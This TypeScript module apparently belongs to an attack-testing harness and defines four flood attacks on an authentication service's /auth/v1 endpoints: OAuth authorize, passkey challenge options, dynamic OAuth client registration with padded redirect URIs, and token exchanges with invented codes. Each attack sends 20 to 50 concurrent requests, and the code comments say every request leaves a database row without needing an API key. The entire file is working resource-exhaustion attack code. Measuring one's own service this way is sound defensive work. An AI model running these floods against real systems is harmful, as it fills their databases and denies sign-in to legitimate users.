/** Starts sign-ins and never finishes them: each leaves a row in the database. */
import type { Attack } from '../../attacker/attack.ts';
import { apiHeaders, flood, send } from '../../attacker/http.ts';

const CHALLENGE = 'c'.repeat(43);

/** Starts sign-ins with an external provider. */
export const authorizeFlood: Attack = {
  name: 'auth/authorize',
  description: 'GET /authorize for a provider, with PKCE, 50 requests at once',
  cost: 'a row per request, without an API key',
  run: (context) =>
    flood(context, {
      sockets: 50,
      request: () => ({
        path: `/auth/v1/authorize?provider=github&code_challenge=${CHALLENGE}&code_challenge_method=s256`,
      }),
    }),
};

/** Requests challenges for passkeys. */
export const passkeyFlood: Attack = {
  name: 'auth/passkey-options',
  description: 'POST /passkeys/authentication/options, 50 requests at once',
  cost: 'a row per request, without an account',
  run: (context) =>
    flood(context, {
      sockets: 50,
      request: () => ({
        path: '/auth/v1/passkeys/authentication/options',
        headers: apiHeaders(context),
        body: '{}',
      }),
    }),
};

/** Registers applications dynamically. */
export const registrationFlood: Attack = {
  name: 'auth/oauth-register',
  description: 'registrations of OAuth applications with 10 long redirect URIs, 20 requests at once',
  cost: 'a row of several KB per request, without an API key',
  run: (context) => {
    const redirect_uris = Array.from(
      { length: 10 },
      (_, index) => `https://example.org/${'p'.repeat(400)}/${index}`,
    );
    const body = JSON.stringify({ client_name: 'attacker', redirect_uris });
    const headers = { 'content-type': 'application/json' };
    return flood(context, {
      sockets: 20,
      request: () => ({ path: '/auth/v1/oauth/clients/register', headers, body }),
    });
  },
  goals: ({ responses }) => [{ name: 'registrations', value: responses['201'] ?? 0, max: 30 }],
};

/** Starts sign-ins of a registered application, and exchanges invented codes. */
export const oauthFlood: Attack = {
  name: 'auth/oauth-authorize',
  description: 'GET /oauth/authorize for a registered application and POST /oauth/token, 50 requests at once',
  cost: 'a row per request, without an API key; secret checks',
  run: async (context) => {
    const redirect = 'https://example.org/back';
    const headers = { 'content-type': 'application/json' };
    const body = JSON.stringify({ client_name: 'attacker', redirect_uris: [redirect] });
    const { text } = await send(context, { path: '/auth/v1/oauth/clients/register', headers, body });
    const id = /"client_id":"([^"]+)"/.exec(text)?.[1] ?? 'unknown';
    const query = `client_id=${id}&redirect_uri=${encodeURIComponent(redirect)}`;
    const authorize = `/auth/v1/oauth/authorize?${query}&response_type=code&code_challenge=${CHALLENGE}&code_challenge_method=S256&state=s`;
    const form = `${query}&grant_type=authorization_code&client_secret=s&code_verifier=${CHALLENGE}&code=`;
    return flood(context, {
      sockets: 50,
      request: (index) =>
        index % 2 === 0
          ? { path: authorize }
          : {
              path: '/auth/v1/oauth/token',
              headers: { 'content-type': 'application/x-www-form-urlencoded' },
              body: form + crypto.randomUUID(),
            },
    });
  },
};
